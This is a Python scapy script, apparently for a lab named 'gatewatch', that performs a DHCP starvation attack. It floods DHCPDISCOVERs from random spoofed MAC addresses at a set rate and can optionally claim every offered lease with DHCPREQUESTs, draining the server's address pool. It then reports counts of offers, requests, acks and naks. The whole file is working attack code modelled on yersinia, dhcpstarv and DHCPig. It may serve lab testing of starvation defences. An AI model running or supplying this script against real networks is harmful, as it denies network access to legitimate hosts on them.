# DHCP starvation for gatewatch lab, as yersinia's DISCOVER flood, dhcpstarv and DHCPig do it:
# DHCPDISCOVERs broadcast from 0.0.0.0:68 to 255.255.255.255:67, each from a new random client
# MAC (Ethernet source = chaddr, so a switch sees a new host each time) and transaction id, at
# RATE a second. With REQUEST=1 every OFFER heard (the sniffer is promiscuous: offers go to the
# fake MACs) is taken with a broadcast DHCPREQUEST for the offered address, so the server leases
# it and the pool drains; with BFLAG=1 the client asks for broadcast answers.
# argv: IFACE COUNT RATE REQUEST BFLAG SEED LINGER
# Prints "discovers D offers O requests R acks A naks N" (distinct transaction ids).
import random, sys, threading, time
from scapy.all import BOOTP, DHCP, IP, UDP, AsyncSniffer, Ether, conf

conf.verb = 0
iface, count, rate = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
take, bflag, rnd, linger = sys.argv[4] == "1", sys.argv[5] == "1", random.Random(int(sys.argv[6])), float(sys.argv[7])

macs = {}  # xid -> mac
seen = {"offers": set(), "acks": set(), "naks": set()}
requests = set()
lock = threading.Lock()
reply_socket = conf.L2socket(iface=iface)

def mac_bytes():
    # A unicast, globally administered looking address: random like the tools', multicast bit clear.
    b = [rnd.randrange(256) for _ in range(6)]
    b[0] &= 0xFC
    return bytes(b)

def frame(mac, xid, options):
    src = ":".join("%02x" % b for b in mac)
    return (Ether(src=src, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67)
            / BOOTP(chaddr=mac + b"\0" * 10, xid=xid, flags=0x8000 if bflag else 0)
            / DHCP(options=options + ["end"]))

def option(p, name):
    for o in p[DHCP].options:
        if isinstance(o, tuple) and o[0] == name:
            return o[1]
    return None

def on_reply(p):
    if not p.haslayer(DHCP) or p[BOOTP].op != 2:
        return
    xid = p[BOOTP].xid
    kind = option(p, "message-type")
    with lock:
        mac = macs.get(xid)
        if mac is None:
            return
        if kind == 2:
            if xid in seen["offers"]:
                return
            seen["offers"].add(xid)
            send_request = take and xid not in requests
            if send_request:
                requests.add(xid)
        elif kind == 5:
            seen["acks"].add(xid)
            return
        elif kind == 6:
            seen["naks"].add(xid)
            return
        else:
            return
    if send_request:
        reply_socket.send(frame(mac, xid, [("message-type", "request"), ("requested_addr", p[BOOTP].yiaddr),
                                           ("server_id", option(p, "server_id")), ("param_req_list", [1, 3, 6, 15])]))

sniffer = AsyncSniffer(iface=iface, filter="udp and src port 67 and dst port 68", prn=on_reply, store=False)
sniffer.start()
time.sleep(0.5)
out = conf.L2socket(iface=iface)
start = time.monotonic()
for i in range(count):
    mac, xid = mac_bytes(), rnd.randrange(1, 1 << 32)
    with lock:
        macs[xid] = mac
    out.send(frame(mac, xid, [("message-type", "discover"), ("param_req_list", [1, 3, 6, 15])]))
    # Paced against the start, not the last packet: the rate holds however long a send takes.
    time.sleep(max(0.0, start + (i + 1) / rate - time.monotonic()))
time.sleep(linger)
sniffer.stop()
with lock:
    print("discovers", count, "offers", len(seen["offers"]), "requests", len(requests), "acks", len(seen["acks"]),
          "naks", len(seen["naks"]), "seconds", round(time.monotonic() - start, 2))
